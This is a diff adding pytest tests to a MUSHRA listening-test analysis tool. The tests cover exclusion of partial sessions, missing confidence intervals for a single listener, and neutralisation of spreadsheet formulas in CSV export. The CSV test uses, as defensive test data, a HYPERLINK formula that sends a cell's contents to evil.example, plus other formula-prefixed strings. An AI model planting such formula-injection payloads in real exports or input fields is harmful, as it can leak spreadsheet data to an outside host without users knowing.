@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import math
 from pathlib import Path
 
 import pytest
@@ -66,3 +69,77 @@ def test_no_submissions_is_a_clear_error(tmp_path: Path) -> None:
     make_test_dir(tmp_path, n_items=1, seconds=0.1)
     with pytest.raises(BenchError, match="no submissions"):
         condition_summary(tmp_path)
+
+
+def _answered(cfg, uuid: str, *, seed: int = 0, items: list[str] | None = None, comments: str = "") -> dict:
+    s = make_session(cfg, uuid, seed=seed, name=comments)
+    if items is not None:
+        s["trials"] = [t for t in s["trials"] if t["id"] in ["training", *items]]
+    return s
+
+
+def test_partial_assessor_is_excluded_by_default_and_counted(tmp_path: Path) -> None:
+    cfg = make_test_dir(tmp_path / "t", n_items=4, seconds=0.1)
+    full = [_answered(cfg, f"full{i}", seed=i) for i in range(2)]
+    partial = _answered(cfg, "partial", seed=9, items=["item01"])
+    _store(tmp_path / "t", cfg, full + [partial])
+
+    res, _ = analyze(tmp_path / "t", tmp_path / "out")
+    by = {s.listener: s for s in res.screening()}
+    assert (by["partial"].items_rated, by["partial"].items_total, by["partial"].excluded) == (1, 4, True)
+    assert by["partial"].reasons == ["rated 1 of 4 items (all are required; allow partial sessions to keep them)"]
+    assert (by["full0"].items_rated, by["full0"].excluded) == (4, False)
+    assert {r["listener"] for r in res.kept_ratings()} == {"full0", "full1"}
+    md = (tmp_path / "out" / "summary.md").read_text()
+    assert "| `partial` | 1 of 4 | no |" in md and "| `full0` | 4 of 4 | yes |" in md
+
+    res, _ = analyze(tmp_path / "t", tmp_path / "out2", allow_partial=True)
+    assert not any(s.excluded for s in res.screening())
+    assert {r["listener"] for r in res.kept_ratings()} == {"full0", "full1", "partial"}
+    assert "| `partial` | 1 of 4 | yes |" in (tmp_path / "out2" / "summary.md").read_text()
+
+    from mushra.cli import main
+    assert main(["analyze", str(tmp_path / "t"), "--out", str(tmp_path / "out3"), "--allow-partial"]) == 0
+    assert "| `partial` | 1 of 4 | yes |" in (tmp_path / "out3" / "summary.md").read_text()
+
+
+def test_single_listener_has_no_interval(tmp_path: Path) -> None:
+    cfg = make_test_dir(tmp_path / "t", n_items=3, seconds=0.1)
+    items = [p.id for p in cfg.mushra_pages() if p.id != "training"]
+    _store(tmp_path / "t", cfg, [make_session(cfg, "only", scores={pid: {"reference": 100} for pid in items})])
+    res, _ = analyze(tmp_path / "t", tmp_path / "out")
+    ref = next(r for r in res.summary() if r["domain"] == "all" and r["condition"] == "reference")
+    assert ref["n_listeners"] == 1 and math.isnan(ref["ci95"])          # was 0.0, printed "±0.0"
+    md = (tmp_path / "out" / "summary.md").read_text()
+    assert "| reference | 100.0 | n=1, no interval | 3 | 1 |" in md
+    rows = json.loads((tmp_path / "out" / "summary.json").read_text())["rows"]
+    assert all(r["ci95"] is None for r in rows)
+
+
+def test_csv_neutralises_formulas_and_keeps_config_columns(tmp_path: Path) -> None:
+    from mushra.analysis import mushra_csv
+
+    cfg = make_test_dir(tmp_path / "t", n_items=1, seconds=0.1)
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    s = _answered(cfg, "u1", comments=evil)
+    for t in s["trials"]:
+        for r in t["responses"]:
+            r["comment"] = "@SUM(1+1)"
+    storage = Storage(default_db_path(tmp_path / "t", cfg))
+    storage.add(validate_session(s, cfg))
+    # A stored session from before questionnaire names were checked must not widen the export either.
+    import sqlite3
+    with sqlite3.connect(storage.db_path) as conn:
+        extra = json.dumps([["age", "40"]] + [[f"made_up{i}", "x"] for i in range(100)])
+        conn.execute("INSERT INTO sessions(uuid, test_id, received, participant, payload) VALUES "
+                     "('old', 'synthetic', 0, ?, '{}')", (extra,))
+        conn.execute("INSERT INTO ratings VALUES ('old', 'item01', 'voc_a', 50, NULL, '+1', 0)")
+    rows = list(csv.reader(io.StringIO(mushra_csv(storage, cfg))))
+    assert rows[0] == ["session_test_id", "age", "comments", "session_uuid", "trial_id", "rating_stimulus",
+                       "rating_score", "rating_time", "rating_comment"]
+    assert {len(r) for r in rows} == {9}
+    assert rows[1][2] == "'" + evil and rows[1][8] == "'@SUM(1+1)"
+    assert rows[-1][1:3] == ["40", ""] and rows[-1][8] == "'+1"
+    assert storage.sessions()[0]["participant"][1] == ("comments", evil)   # the stored answer stays raw
+    for cell in (c for r in rows[1:] for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
